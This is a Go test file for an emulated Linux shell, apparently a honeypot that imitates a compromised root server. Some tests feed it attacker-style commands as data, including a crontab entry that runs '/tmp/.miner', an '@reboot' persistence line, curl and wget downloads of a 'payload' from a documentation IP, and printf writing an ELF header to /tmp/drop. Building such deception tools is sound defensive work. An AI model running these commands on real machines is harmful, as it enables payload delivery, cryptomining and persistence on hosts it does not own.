package shell

import (
	"strings"
	"testing"
)

// run is a terse helper: fresh shell, one line, returns output.
func run(t *testing.T, line string) string {
	t.Helper()
	return newTestShell().Run(line)
}

func TestCmdPwdLsCd(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("pwd"); out != "/root\n" {
		t.Errorf("pwd = %q", out)
	}
	out := sh.Run("ls /")
	for _, want := range []string{"bin", "etc", "tmp", "usr", "var"} {
		if !strings.Contains(out, want) {
			t.Errorf("ls / missing %q: %q", want, out)
		}
	}
	// Hidden files only with -a.
	sh.Run("touch /root/.hidden")
	if out := sh.Run("ls /root"); strings.Contains(out, ".hidden") {
		t.Error("ls shows dotfiles without -a")
	}
	if out := sh.Run("ls -la /root"); !strings.Contains(out, ".hidden") {
		t.Errorf("ls -la hides dotfiles: %q", out)
	}
	if out := sh.Run("ls -l /etc/passwd"); !strings.Contains(out, "-rwx") {
		t.Errorf("ls -l = %q", out)
	}
	if out := sh.Run("ls /nope"); !strings.Contains(out, "cannot access") {
		t.Errorf("ls missing = %q", out)
	}
}

func TestCmdCpMv(t *testing.T) {
	sh := newTestShell()
	sh.Run("echo data > /tmp/src")
	sh.Run("cp /tmp/src /tmp/dst")
	if out := sh.Run("cat /tmp/dst"); out != "data\n" {
		t.Errorf("cp: %q", out)
	}
	// cp into a directory.
	sh.Run("mkdir /tmp/d; cp /tmp/src /tmp/d")
	if !sh.FS.Exists("/tmp/d/src") {
		t.Error("cp into directory failed")
	}
	sh.Run("mv /tmp/dst /tmp/moved")
	if sh.FS.Exists("/tmp/dst") || !sh.FS.Exists("/tmp/moved") {
		t.Error("mv failed")
	}
	if out := sh.Run("cp /missing /tmp/x"); !strings.Contains(out, "cannot stat") {
		t.Errorf("cp missing = %q", out)
	}
	if out := sh.Run("mv /missing /tmp/x"); !strings.Contains(out, "cannot stat") {
		t.Errorf("mv missing = %q", out)
	}
	if out := sh.Run("cp onlyone"); !strings.Contains(out, "missing file operand") {
		t.Errorf("cp arity = %q", out)
	}
}

// TestCmdMvErrors: each way a move fails prints bash's own message.
func TestCmdMvErrors(t *testing.T) {
	for _, c := range []struct{ cmd, want string }{
		{"mv /missing /tmp/x", "mv: cannot stat '/missing': No such file or directory\n"},
		{"mv a x/a", "mv: cannot move 'a' to 'x/a': No such file or directory\n"},
		{"mv d d/b", "mv: cannot move 'd' to a subdirectory of itself, 'd/b/d'\n"},
	} {
		sh := newTestShell()
		sh.Run("cd /tmp; touch a; mkdir d; mkdir d/b")
		if out := sh.Run(c.cmd); out != c.want {
			t.Errorf("%s: %q, want %q", c.cmd, out, c.want)
		}
	}
}

func TestCmdSystemInfo(t *testing.T) {
	checks := map[string]string{
		"id":            "uid=0(root)",
		"whoami":        "root",
		"hostname":      "svr04",
		"nproc":         "2",
		"uptime":        "load average",
		"w":             "USER",
		"lscpu":         "Architecture",
		"df -h":         "Filesystem",
		"mount":         "ext4",
		"ifconfig":      "eth0",
		"ip a":          "inet",
		"netstat -tlpn": "LISTEN",
		"ps aux":        "PID",
		"top":           "load average",
		"last":          "reboot",
		"lspci":         "Ethernet controller",
		"free":          "Mem:",
	}
	for cmd, want := range checks {
		if out := run(t, cmd); !strings.Contains(out, want) {
			t.Errorf("%s = %q, want contains %q", cmd, out, want)
		}
	}
}

func TestCmdFreeMegabytes(t *testing.T) {
	out := run(t, "free -m")
	if !strings.Contains(out, "2000") {
		t.Errorf("free -m should report ~2000 MB: %q", out)
	}
}

func TestCmdCrontab(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("crontab -l"); !strings.Contains(out, "no crontab for root") {
		t.Errorf("crontab -l = %q", out)
	}
	sh.Run("echo '* * * * * /tmp/.miner' > /tmp/cr")
	sh.Run("crontab /tmp/cr")
	if out := sh.Run("crontab -l"); !strings.Contains(out, ".miner") {
		t.Errorf("crontab after install = %q", out)
	}
	sh.Run("crontab -r")
	if out := sh.Run("crontab -l"); !strings.Contains(out, "no crontab") {
		t.Errorf("crontab after -r = %q", out)
	}
	if out := sh.Run("crontab /missing"); !strings.Contains(out, "No such file") {
		t.Errorf("crontab missing file = %q", out)
	}
	// Piped install: echo line | crontab -
	sh2 := newTestShell()
	sh2.Run("echo '@reboot /tmp/x' | crontab")
	if !sh2.StateChanged() {
		t.Error("piped crontab must change state")
	}
}

func TestCmdPasswdFamily(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("passwd"); !strings.Contains(out, "updated successfully") {
		t.Errorf("passwd = %q", out)
	}
	if !sh.StateChanged() {
		t.Error("passwd must modify shadow")
	}
}

func TestCmdWhich(t *testing.T) {
	if out := run(t, "which wget curl"); !strings.Contains(out, "/usr/bin/wget") || !strings.Contains(out, "/usr/bin/curl") {
		t.Errorf("which = %q", out)
	}
	sh := newTestShell()
	if sh.Run("which notacommand"); sh.status == 0 {
		t.Error("which unknown should fail")
	}
}

func TestCmdGrepModes(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("grep root /etc/passwd"); !strings.Contains(out, "root:x:0:0") {
		t.Errorf("grep file = %q", out)
	}
	if out := sh.Run("grep -c root /etc/passwd"); out != "1\n" {
		t.Errorf("grep -c = %q", out)
	}
	if out := sh.Run("grep -v root /etc/passwd | wc -l"); out != "3\n" {
		t.Errorf("grep -v | wc -l = %q", out)
	}
	if out := sh.Run("grep -i ROOT /etc/passwd"); !strings.Contains(out, "root") {
		t.Errorf("grep -i = %q", out)
	}
	if sh.Run("grep absent /etc/passwd"); sh.status != 1 {
		t.Error("grep without match should exit 1")
	}
}

func TestCmdHeadTailSortWc(t *testing.T) {
	sh := newTestShell()
	sh.Run(`echo -e "c\na\nb" > /tmp/f`)
	if out := sh.Run("head -n 1 /tmp/f"); out != "c\n" {
		t.Errorf("head = %q", out)
	}
	if out := sh.Run("cat /tmp/f | tail -n 1"); out != "b\n" {
		t.Errorf("tail = %q", out)
	}
	if out := sh.Run("cat /tmp/f | sort"); out != "a\nb\nc\n" {
		t.Errorf("sort = %q", out)
	}
	if out := sh.Run("cat /tmp/f | wc"); !strings.Contains(out, "3") {
		t.Errorf("wc = %q", out)
	}
	if out := sh.Run("head -2 /tmp/f"); out != "c\na\n" {
		t.Errorf("head -N = %q", out)
	}
	if out := sh.Run("head /missing"); !strings.Contains(out, "cannot open") {
		t.Errorf("head missing = %q", out)
	}
}

func TestCmdTrCutXargs(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("echo abc | tr ab xy"); out != "xyc\n" {
		t.Errorf("tr = %q", out)
	}
	if out := sh.Run("echo a:b:c | cut -d: -f2"); out != "b\n" {
		t.Errorf("cut = %q", out)
	}
	if out := sh.Run("echo '-a' | xargs uname"); out != "Linux svr04 5.10.0-8-amd64 #1 SMP Debian 5.10.46-4 (2021-08-03) x86_64 GNU/Linux\n" {
		t.Errorf("xargs = %q", out)
	}
}

func TestCmdHashes(t *testing.T) {
	sh := newTestShell()
	out := sh.Run("sha256sum /etc/hostname")
	if len(strings.Fields(out)) != 2 || len(strings.Fields(out)[0]) != 64 {
		t.Errorf("sha256sum = %q", out)
	}
	if out := sh.Run("sha256sum /missing"); !strings.Contains(out, "No such file") {
		t.Errorf("sha256sum missing = %q", out)
	}
	if out := sh.Run("echo x | sha256sum"); !strings.Contains(out, "-") {
		t.Errorf("sha256sum stdin = %q", out)
	}
}

func TestCmdBase64Encode(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("echo -n hi | base64"); out != "aGk=\n" {
		t.Errorf("base64 = %q", out)
	}
	if out := sh.Run("echo '!!!notb64' | base64 -d"); !strings.Contains(out, "invalid input") {
		t.Errorf("base64 -d garbage = %q", out)
	}
}

func TestCmdOpensslPasswd(t *testing.T) {
	out := run(t, "openssl passwd -1 abcd1234")
	if !strings.HasPrefix(out, "$1$") {
		t.Errorf("openssl passwd = %q", out)
	}
	if out := run(t, "openssl version"); !strings.Contains(out, "OpenSSL") {
		t.Errorf("openssl = %q", out)
	}
}

func TestCmdAptFamily(t *testing.T) {
	if out := run(t, "apt-get update"); !strings.Contains(out, "Reading package lists") {
		t.Errorf("apt-get = %q", out)
	}
	if out := run(t, "apt install clamav"); !strings.Contains(out, "Unable to locate") {
		t.Errorf("apt install = %q", out)
	}
}

func TestCmdDd(t *testing.T) {
	sh := newTestShell()
	out := sh.Run("dd if=/proc/self/exe bs=4 count=1")
	if !strings.Contains(out, "\x7fELF") {
		t.Errorf("dd = %q", out)
	}
	if out := sh.Run("dd if=/missing"); !strings.Contains(out, "failed to open") {
		t.Errorf("dd missing = %q", out)
	}
	if out := sh.Run("dd bs=1"); out != "" {
		t.Errorf("dd without if = %q", out)
	}
}

func TestCmdTouchAndChmodErrors(t *testing.T) {
	sh := newTestShell()
	sh.Run("touch /tmp/t1 /tmp/t2")
	if !sh.FS.Exists("/tmp/t1") || !sh.FS.Exists("/tmp/t2") {
		t.Error("touch failed")
	}
	if out := sh.Run("chmod 755 /missing"); !strings.Contains(out, "cannot access") {
		t.Errorf("chmod missing = %q", out)
	}
	if out := sh.Run("chmod +x /tmp/t1"); out != "" {
		t.Errorf("chmod symbolic = %q", out)
	}
}

func TestCmdMkdirErrors(t *testing.T) {
	sh := newTestShell()
	sh.Run("mkdir /tmp/m")
	if out := sh.Run("mkdir /tmp/m"); !strings.Contains(out, "File exists") {
		t.Errorf("mkdir dup = %q", out)
	}
	if out := sh.Run("mkdir -p /tmp/m/a/b/c"); out != "" {
		t.Errorf("mkdir -p = %q", out)
	}
	if !sh.FS.Exists("/tmp/m/a/b/c") {
		t.Error("mkdir -p failed")
	}
}

func TestCmdRmErrors(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("rm /missing"); !strings.Contains(out, "cannot remove") {
		t.Errorf("rm missing = %q", out)
	}
	if out := sh.Run("rm -f /missing"); out != "" {
		t.Errorf("rm -f must be silent: %q", out)
	}
}

func TestCmdUnsetAndSet(t *testing.T) {
	sh := newTestShell()
	sh.Run("export FOO=1")
	sh.Run("unset FOO")
	if out := sh.Run("echo [$FOO]"); out != "[]\n" {
		t.Errorf("unset = %q", out)
	}
	if out := sh.Run("set"); out != "" {
		t.Errorf("set = %q", out)
	}
}

func TestCmdHistoryNumbering(t *testing.T) {
	sh := newTestShell()
	sh.Run("uname")
	sh.Run("id")
	out := sh.Run("history")
	if !strings.Contains(out, "1  uname") || !strings.Contains(out, "2  id") {
		t.Errorf("history = %q", out)
	}
}

func TestCmdWgetVariants(t *testing.T) {
	sh := newTestShell()
	// Bare host gets http:// prepended and index.html.
	sh.Run("cd /tmp; wget 198.51.100.4")
	if !sh.FS.Exists("/tmp/index.html") {
		t.Error("wget bare host should save index.html")
	}
	// -q suppresses output; -O picks the name.
	if out := sh.Run("wget -q http://198.51.100.4/a -O /tmp/named"); out != "" {
		t.Errorf("wget -q = %q", out)
	}
	if !sh.FS.Exists("/tmp/named") {
		t.Error("wget -O failed")
	}
	if out := sh.Run("wget"); !strings.Contains(out, "missing URL") {
		t.Errorf("wget no args = %q", out)
	}
}

func TestCmdCurlDashO(t *testing.T) {
	sh := newTestShell()
	sh.Run("cd /tmp; curl -o out.bin http://198.51.100.4/payload")
	if !sh.FS.Exists("/tmp/out.bin") {
		t.Error("curl -o failed")
	}
	if out := sh.Run("curl"); !strings.Contains(out, "curl:") {
		t.Errorf("curl no args = %q", out)
	}
}

func TestCmdBusyboxBanner(t *testing.T) {
	out := run(t, "busybox")
	if !strings.Contains(out, "BusyBox v") {
		t.Errorf("busybox banner = %q", out)
	}
	// Dispatched applets run the real builtin.
	if out := run(t, "busybox echo hi"); out != "hi\n" {
		t.Errorf("busybox echo = %q", out)
	}
}

func TestCmdTftpUsage(t *testing.T) {
	if out := run(t, "tftp"); !strings.Contains(out, "usage") {
		t.Errorf("tftp usage = %q", out)
	}
	if out := run(t, "ftpget host"); !strings.Contains(out, "usage") {
		t.Errorf("ftpget usage = %q", out)
	}
}

func TestUnameDefaultAndUnknownFlags(t *testing.T) {
	if out := run(t, "uname -z"); out != "Linux\n" {
		t.Errorf("uname unknown flag = %q", out)
	}
}

func TestVarAssignmentPrefixNotCommand(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("LANG=C"); out != "" {
		t.Errorf("assignment output = %q", out)
	}
	if out := sh.Run("echo $LANG"); out != "C\n" {
		t.Errorf("assignment not stored: %q", out)
	}
}

func TestCmdPrintfDropsELF(t *testing.T) {
	sh := newTestShell()
	sh.Run(`printf '\x7f\x45\x4c\x46\x02' > /tmp/drop`)
	content, err := sh.FS.ReadFile("/tmp/drop")
	if err != nil || string(content) != "\x7fELF\x02" {
		t.Fatalf("printf drop = %x, %v", content, err)
	}
	if out := sh.Run(`printf '%s-%s\n' a b`); out != "a-b\n" {
		t.Errorf("printf format = %q", out)
	}
	if out := sh.Run(`printf '%%'`); out != "%" {
		t.Errorf("printf %%%% = %q", out)
	}
	if sh.Run("printf"); sh.status != 1 {
		t.Error("printf without args should fail")
	}
}

func TestCmdEnvSorted(t *testing.T) {
	sh := newTestShell()
	out := sh.Run("env")
	if !strings.Contains(out, "SHELL=/bin/bash") || !strings.Contains(out, "HOME=/root") {
		t.Errorf("env = %q", out)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	for i := 1; i < len(lines); i++ {
		if lines[i-1] > lines[i] {
			t.Errorf("env unsorted: %v", lines)
		}
	}
}

func TestCmdLnStatFile(t *testing.T) {
	sh := newTestShell()
	sh.Run("echo data > /tmp/orig")
	sh.Run("ln -s /tmp/orig /tmp/link")
	if out := sh.Run("cat /tmp/link"); out != "data\n" {
		t.Errorf("ln = %q", out)
	}
	if out := sh.Run("stat /tmp/orig"); !strings.Contains(out, "regular file") {
		t.Errorf("stat = %q", out)
	}
	if out := sh.Run("stat /tmp"); !strings.Contains(out, "directory") {
		t.Errorf("stat dir = %q", out)
	}
	if out := sh.Run("stat /missing"); !strings.Contains(out, "cannot stat") {
		t.Errorf("stat missing = %q", out)
	}
	if out := sh.Run("file /bin/busybox"); !strings.Contains(out, "ELF") {
		t.Errorf("file elf = %q", out)
	}
	if out := sh.Run("file /etc/init.d/ssh"); !strings.Contains(out, "shell script") {
		t.Errorf("file script = %q", out)
	}
	if out := sh.Run("file /etc/hostname"); !strings.Contains(out, "ASCII text") {
		t.Errorf("file text = %q", out)
	}
}

func TestCmdFind(t *testing.T) {
	sh := newTestShell()
	sh.Run("mkdir -p /tmp/a/b; echo x > /tmp/a/b/.hidden.sh; echo y > /tmp/a/top.sh")
	out := sh.Run("find /tmp -name '*.sh'")
	if !strings.Contains(out, "/tmp/a/b/.hidden.sh") || !strings.Contains(out, "/tmp/a/top.sh") {
		t.Errorf("find -name = %q", out)
	}
	if out := sh.Run("find /missing"); !strings.Contains(out, "No such file") {
		t.Errorf("find missing = %q", out)
	}
	out = sh.Run("find /tmp/a")
	if !strings.Contains(out, "/tmp/a\n") {
		t.Errorf("find dir should include root: %q", out)
	}
}

func TestCmdNohupRunsWrapped(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("nohup uname -s"); out != "Linux\n" {
		t.Errorf("nohup = %q", out)
	}
	if out := sh.Run("setsid whoami"); out != "root\n" {
		t.Errorf("setsid = %q", out)
	}
	if out := sh.Run("nohup"); !strings.Contains(out, "missing operand") {
		t.Errorf("nohup bare = %q", out)
	}
}

func TestCmdNetworkInfoExtras(t *testing.T) {
	for cmd, want := range map[string]string{
		"dmesg": "Linux version",
		"route": "Kernel IP routing table",
		"arp":   "HWaddress",
		"date":  "UTC",
	} {
		if out := run(t, cmd); !strings.Contains(out, want) {
			t.Errorf("%s = %q", cmd, out)
		}
	}
}
